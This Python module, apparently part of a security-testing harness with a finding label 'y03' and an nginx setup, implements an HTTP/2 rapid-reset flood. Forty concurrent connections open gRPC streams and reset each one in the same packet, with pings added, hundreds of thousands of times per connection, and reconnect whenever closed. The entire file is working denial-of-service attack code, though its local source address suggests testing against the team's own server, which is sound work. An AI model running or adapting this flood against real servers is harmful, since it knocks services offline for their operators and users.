"""Forty connections that open and reset streams in one packet, and send pings."""

from __future__ import annotations

import asyncio
import time

from http2_frames import PING, Connection, call, frame, reset

from ..attack import SERVICE, Attack, Seen, Target

BATCH, CONNECTIONS, STREAMS = 200, 40, 500_000
SOURCE = "127.0.0.2"


async def attack(target: Target, seen: Seen) -> None:
    end = time.monotonic() + target.seconds

    async def flood(metadata: tuple[tuple[str, str], ...]) -> None:
        head, tail = call(0, f"{SERVICE}Generate", metadata), reset(0)
        before, between, after = head[:5], head[9:] + tail[:5], tail[9:]
        while time.monotonic() < end:
            try:
                connection = await Connection.open(target.address, source=SOURCE)
            except OSError:
                seen["not connected"] += 1
                await asyncio.sleep(0.1)
                continue
            seen["connections"] += 1
            for first in range(1, 2 * STREAMS, 2 * BATCH):
                numbers = [at.to_bytes(4) for at in range(first, first + 2 * BATCH, 2)]
                data = b"".join(before + at + between + at + after for at in numbers)
                await connection.send(data + frame(PING, 0, 0, bytes(8)))
                seen["streams reset"] += BATCH
                await asyncio.sleep(0)
                if connection.is_closed or time.monotonic() > end:
                    break
            await connection.close()

    await asyncio.gather(*(flood(target.metadata if at % 2 else ()) for at in range(CONNECTIONS)))


ATTACK = Attack(name="many-connections", finding="y03", run=attack, setup="nginx")
